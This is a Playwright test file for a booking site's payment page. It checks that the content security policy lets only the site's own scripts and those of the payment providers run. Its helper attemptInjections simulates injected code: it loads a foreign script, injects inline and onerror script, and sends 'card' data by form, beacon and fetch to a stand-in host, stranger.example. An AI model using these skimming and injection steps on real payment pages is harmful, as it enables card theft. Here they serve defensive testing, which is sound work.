import { readdir } from 'node:fs/promises'
import { expect, type Page } from '@playwright/test'
import { monriAuthenticityToken, monriKey } from '../../fixtures/fake-monri.ts'
import { fakeStripe, stripeKeys } from '../../providers/stripe/fake-stripe.ts'
import { fakeStripeJs } from '../../providers/stripe/fake-stripe-js.ts'
import { test } from '../fixtures/guarded-test.ts'
import { createIsolatedSite, type IsolatedSite } from '../fixtures/isolated-site.ts'
import { goToPayButton } from '../fixtures/stripe-site.ts'

// In the payment document only our scripts and the provider's run. The content security policy blocks all others.

const bank = 'https://ipgtest.monri.com'

interface ProviderCase {
  /**
   * Environment variables for a separate site with this provider. Without them the site under test with its sandbox is
   * used.
   */
  env?: Record<string, string>
  scripts(origin: string): (string | RegExp)[]
  /** Origins of the frames in the page. */
  frames(origin: string): string[]
  /** Waits until the payment can be made. */
  open(page: Page): Promise<void>
}

const expectCardFields = (page: Page) => expect(page.locator('.card-field[aria-busy=false] iframe')).toHaveCount(3)

const providerCases: Record<string, ProviderCase> = {
  'the sandbox': {
    scripts: (origin) => [`${origin}/sandbox/v1.js`],
    frames: (origin) => [origin],
    open: expectCardFields,
  },
  Stripe: {
    env: {
      STRIPE_SECRET_KEY: stripeKeys.secretKey,
      STRIPE_PUBLISHABLE_KEY: stripeKeys.publishableKey,
      STRIPE_WEBHOOK_SECRET: stripeKeys.webhookSecret,
    },
    scripts: () => [/^https:\/\/js\.stripe\.com\/[a-z]+\/stripe\.js$/],
    frames: () => ['https://js.stripe.com'],
    open: expectCardFields,
  },
  Monri: {
    env: { MONRI_KEY: monriKey, MONRI_AUTHENTICITY_TOKEN: monriAuthenticityToken, MONRI_API_BASE: bank },
    scripts: () => [],
    frames: () => [],
    async open(page) {
      await page.locator('#pay').click()
      await expect(page).toHaveURL(/\/booking\/[\w-]{22}$/)
    },
  },
}

for (const [name, { env, ...provider }] of Object.entries(providerCases)) {
  test.describe(name, () => {
    let own: IsolatedSite | undefined
    let origin: string
    test.beforeAll(async ({ baseURL }) => {
      own = env && (await createIsolatedSite())
      origin = own ? (await own.start(env)).origin : (baseURL ?? '')
    })
    test.afterAll(() => own?.close())

    test('only our scripts and those of the provider run; injected ones and other origins are blocked', async ({
      page,
    }) => {
      const stripe = await fakeStripe()
      await fakeStripeJs(page, stripe, ['applePay'])
      // 204 keeps the browser on our page instead of the bank's.
      await page.route(`${bank}/**`, (route) => route.fulfill({ status: 204 }))
      const scripts = new Set<string>()
      page.on('request', (request) => {
        if (request.resourceType() === 'script' && request.frame() === page.mainFrame()) scripts.add(request.url())
      })
      await goToPayButton(page, origin)
      await provider.open(page)
      await stripe.close()

      await test.step('only our scripts and those of the provider run', async () => {
        const built = (await readdir('build/client/assets')).map((file) => `${origin}/assets/${file}`)
        const foreignScripts = (addresses: Set<string>) => [...addresses].filter((address) => !built.includes(address))
        const theirs = provider
          .scripts(origin)
          .map((wanted) => (typeof wanted === 'string' ? wanted : expect.stringMatching(wanted)))
        expect(foreignScripts(scripts)).toEqual(theirs)

        // JSON scripts are data and never executed.
        const inDocument = await page
          .locator('script:not([type$="json"])')
          .evaluateAll((all: HTMLScriptElement[]) => all.map(({ src }) => src || 'inline'))
        expect(inDocument.filter((script) => !scripts.has(script))).toEqual([])
        // The URL of a frame is empty until its first navigation.
        const frames = () => page.frames().filter((frame) => frame !== page.mainFrame())
        await expect
          .poll(() => [...new Set(frames().map((frame) => URL.parse(frame.url())?.origin))])
          .toEqual(provider.frames(origin))
      })

      await test.step('injected scripts and connections to other origins are blocked', async () => {
        const reached: string[] = []
        await page.route('https://stranger.example/**', (route) => {
          reached.push(route.request().url())
          return route.fulfill({ contentType: 'text/javascript', body: 'window.stolen = true' })
        })
        await page.evaluate(attemptInjections)
        const refused = () => page.evaluate(() => [...(window.refused ?? [])].sort())
        await expect
          .poll(refused)
          .toEqual([
            'connect-src https://stranger.example/beacon',
            'connect-src https://stranger.example/fetch',
            'form-action https://stranger.example/form',
            'frame-src https://stranger.example',
            'img-src https://stranger.example/picture.png',
            'script-src-attr inline',
            'script-src-elem https://stranger.example/script.js',
            'script-src-elem inline',
          ])
        expect(reached).toEqual([])
        expect(await page.evaluate(() => window.stolen)).toBeUndefined()
      })
    })
  })
}

declare global {
  interface Window {
    refused?: Set<string>
    stolen?: true
  }
}

/** Runs in the page: performs the actions that injected code would attempt. */
function attemptInjections() {
  const refused = new Set<string>()
  window.refused = refused
  addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
    refused.add(`${effectiveDirective} ${blockedURI}`)
  })
  const away = 'https://stranger.example'
  const append = <Tag extends keyof HTMLElementTagNameMap>(
    tag: Tag,
    properties: Partial<HTMLElementTagNameMap[Tag]>,
  ) => {
    const made = Object.assign(document.createElement(tag), properties)
    document.body.append(made)
    return made
  }
  append('script', { src: `${away}/script.js` })
  append('script', { textContent: 'window.stolen = true' })
  append('div', { innerHTML: '<img src="data:," onerror="window.stolen = true">' })
  append('img', { src: `${away}/picture.png` })
  append('iframe', { src: away })
  append('form', { action: `${away}/form`, method: 'post' }).submit()
  navigator.sendBeacon(`${away}/beacon`, 'card')
  fetch(`${away}/fetch`, { method: 'POST', body: 'card' }).catch(() => {})
}
